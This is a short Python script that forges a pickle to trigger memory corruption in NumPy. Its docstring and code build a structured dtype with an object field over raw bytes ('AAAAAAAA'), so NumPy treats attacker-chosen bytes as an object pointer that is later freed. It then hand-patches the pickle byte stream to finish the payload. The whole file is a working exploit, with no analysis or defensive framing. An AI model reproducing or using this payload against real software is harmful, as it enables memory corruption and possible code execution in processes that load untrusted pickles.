"""A pickle that has NumPy take eight bytes for the address of an object, which it lets go where another comes there."""

import pickle

import numpy as np


class Forged:
    def __init__(self, make, arguments, *state):
        self.way = (make, arguments, *state)

    def __reduce__(self):
        return self.way


def freeze(item):
    fields = {"a": (np.dtype(object), 0)}
    kind = Forged(np.dtype, ("V8", False, True), (3, "|", None, ("a",), fields, 8, 1, 0))
    array = Forged(np.ones(1).__reduce__()[0], (np.ndarray, (0,), b"b"), (1, (1,), kind, False, b"AAAAAAAA"))
    return pickle.dumps(array, 4)[:-1] + b"\x8c\x01aNs."
